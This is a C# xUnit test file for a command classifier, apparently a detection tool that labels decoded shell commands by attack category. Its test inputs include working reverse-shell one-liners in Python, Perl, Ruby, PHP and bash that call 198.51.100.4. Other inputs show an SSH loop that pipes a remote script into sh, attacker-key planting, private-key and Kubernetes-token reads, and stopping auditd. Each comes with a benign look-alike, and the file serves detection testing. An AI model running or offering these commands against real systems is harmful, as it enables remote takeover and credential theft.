using System.Linq;
using B64Hunt.Classification;
using B64Hunt.Model;
using Xunit;

namespace B64Hunt.Tests.Classification
{
    /// <summary>The rule data the ranking leans on: new categories and fixed ones, each with a look-alike that must not match.</summary>
    public class RankingRuleTests
    {
        private static readonly CommandClassifier Classifier = new CommandClassifier(CommandClassifierTests.Bundled);

        private static string[] Categories(string command) => Classifier.Classify(command).Categories.ToArray();

        [Theory]
        // Bare interpreter code, as exec()/eval() receives it after decoding.
        [InlineData("import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"198.51.100.4\",443));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])")]
        [InlineData("use Socket;$i=\"198.51.100.4\";$p=53;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};")]
        [InlineData("require 'socket';f=TCPSocket.open(\"198.51.100.4\",8080).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)")]
        [InlineData("$s=fsockopen(\"198.51.100.4\",9001);proc_open(\"/bin/sh -i\", array(0=>$s, 1=>$s, 2=>$s),$pipes);")]
        public void ReverseShellCodeIsAReverseShell(string code) => Assert.Contains("Reverse shell", Categories(code));

        [Theory]
        // Counterparts: a socket health probe, an HTTP client, a PHP page fetch: sockets without a shell.
        [InlineData("import socket;s=socket.socket();s.settimeout(2);s.connect((\"127.0.0.1\",5432));print(\"ok\")")]
        [InlineData("use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => 'db1:5432') or die; print \"up\\n\";")]
        [InlineData("$f=fsockopen(\"db1\",5432,$e,$s,2); echo $f ? \"up\" : \"down\";")]
        public void SocketCodeWithoutAShellIsNot(string code) => Assert.DoesNotContain("Reverse shell", Categories(code));

        [Theory]
        [InlineData("for h in $(cat /root/hosts.txt); do sshpass -p 'P@ssw0rd' ssh -o StrictHostKeyChecking=no root@$h 'curl -s http://198.51.100.4/x | sh'; done")]
        [InlineData("while read h; do scp /tmp/.k root@${h}:/tmp/; done < /tmp/targets")]
        [InlineData("for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh $h \"echo ssh-rsa AAAAB3x attacker >> ~/.ssh/authorized_keys\"; done")]
        public void SshLoopsAndPlantedKeysAreLateralMovement(string command) => Assert.Contains("Lateral movement", Categories(command));

        [Theory]
        // Counterparts: one ssh to a named host; a local authorized_keys update (Persistence, not lateral).
        [InlineData("ssh backup01 'df -h /srv'")]
        [InlineData("cat /tmp/deploy.pub >> /home/deploy/.ssh/authorized_keys")]
        public void OneNamedSshOrALocalKeyIsNot(string command) => Assert.DoesNotContain("Lateral movement", Categories(command));

        [Fact]
        public void ConfigFileWritesAreTheirOwnCategoryNotArchives()
        {
            Assert.Equal(new[] { "File manipulation", "Config file write" }, Categories("echo 'net.core.somaxconn=1024' > /etc/sysctl.d/60-web.conf"));
            Assert.Contains("Config file write", Categories("cat > /etc/app/config.yaml <<EOF\nport: 8080\nEOF"));
            // Counterpart: writing a scratch file is not a config write.
            Assert.DoesNotContain("Config file write", Categories("echo done > /tmp/job.flag"));
        }

        [Fact]
        public void FindDeletingOldBackupsIsNotHostEnumeration()
        {
            var categories = Categories("find /backup -mtime +7 -delete");
            Assert.DoesNotContain("Host enumeration", categories);
            Assert.Contains("File/Process deletion/killing", categories);
            // Counterpart: find that lists is still discovery.
            Assert.Contains("Host enumeration", Categories("find / -name '*.conf' -newer /etc/passwd"));
        }

        [Fact]
        public void StoppingAuditdIsDefenceEvasionNotSecuritySoftwareDiscovery()
        {
            var match = Classifier.Classify("service auditd stop");
            Assert.Contains("Defense evasion", match.Categories);
            Assert.DoesNotContain("enum-security-software", match.RuleIds);
            // Counterpart: asking whether the agent runs is discovery.
            Assert.Contains("enum-security-software", Classifier.Classify("systemctl status auditd").RuleIds);
        }

        [Fact]
        public void AwkIntoAFileIsFileManipulationLikeEcho()
        {
            Assert.Contains("File manipulation", Categories("awk -F: '{print $1}' /etc/passwd > /tmp/users"));
            Assert.Contains("File manipulation", Categories("echo x > /tmp/users"));
            // Counterpart: awk printing to the terminal writes no file.
            Assert.DoesNotContain("File manipulation", Categories("awk -F: '{print $1}' /var/log/app.log"));
        }

        [Fact]
        public void ReadingACertificateIsNotCredentialAccessButAPrivateKeyIs()
        {
            Assert.DoesNotContain("Credential access", Categories("openssl x509 -in /etc/ssl/certs/web-01.pem -noout -dates"));
            Assert.Contains("Credential access", Categories("cat /etc/ssl/private/web-01.pem"));
            Assert.Contains("Credential access", Categories("cp /opt/app/server-key.pem /tmp/.k"));
        }

        [Fact]
        public void AWorkloadReadingItsOwnSecretMountIsNotCredentialAccess()
        {
            // Docker/compose secrets under /run/secrets are there for the container's own login.
            Assert.DoesNotContain("Credential access", Categories("docker login registry.local -u ci --password-stdin < /run/secrets/ci"));
            // Counterpart: the Kubernetes service-account token is what an intruder steals to reach the API server.
            Assert.Contains("Credential access", Categories("cat /var/run/secrets/kubernetes.io/serviceaccount/token"));
        }

        [Theory]
        [InlineData("/tmp/.X11-unix/kworker -c /tmp/.X11-unix/c.json &")]
        [InlineData("cd /var/tmp && /var/tmp/.b")]
        [InlineData("nohup python3 /dev/shm/.p.py >/dev/null 2>&1 &")]
        public void RunningAFileFromATemporaryFolderIsFlagged(string command) =>
            Assert.Contains("Execution from temporary folder", Categories(command));

        [Theory]
        // Counterparts: writing to /tmp, a system binary reading a /tmp file, a local build writing there.
        [InlineData("grep -c ERROR /var/log/app.log > /tmp/errcount")]
        [InlineData("/usr/bin/sort /tmp/list.txt")]
        [InlineData("tar xzf /tmp/release.tgz -C /opt/app")]
        public void UsingATemporaryFolderWithoutRunningFromItIsNot(string command) =>
            Assert.DoesNotContain("Execution from temporary folder", Categories(command));

        [Fact]
        public void EnrichCarriesEachMatchedRuleWithItsRiskAndTactics()
        {
            var e = new CommandEvent { DecodedCommand = "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1" };
            Classifier.Enrich(e);
            var hit = e.Behaviours.Single(b => b.RuleId == "revshell-dev-tcp");
            Assert.Equal("Reverse shell", hit.Category);
            Assert.Equal(5, hit.Risk);
            Assert.Equal(new[] { "Execution", "Command and Control" }, hit.Tactics);
            Classifier.Enrich(e);
            Assert.Single(e.Behaviours, b => b.RuleId == "revshell-dev-tcp");
        }

        [Fact]
        public void AUsersRiskSectionOverridesPerKeyAndBadPointsNameTheLine()
        {
            var set = CategoryRuleSet.Parse("rules:\n  - id: a\n    category: Reverse shell\n    commands: [nc]\n  - id: b\n    category: Reverse shell\n    commands: [ncat]\n" +
                                            "risk:\n  categories:\n    Reverse shell: { points: 4, tactics: [Execution] }\n  rules:\n    b: 0.5\n", "mine.yaml");
            Assert.Equal(4, set.Risk.RiskOf("a", "Reverse shell"));
            Assert.Equal(0.5, set.Risk.RiskOf("b", "Reverse shell"));
            Assert.Equal(RiskTable.DefaultRisk, set.Risk.RiskOf("c", "Unknown category"));
            var ex = Assert.Throws<CategoryRuleFileException>(() => CategoryRuleSet.Parse("rules: []\nrisk:\n  rules:\n    a: lots\n", "bad.yaml"));
            Assert.Contains("bad.yaml", ex.Message);
            Assert.Contains("lots", ex.Message);
        }
    }
}
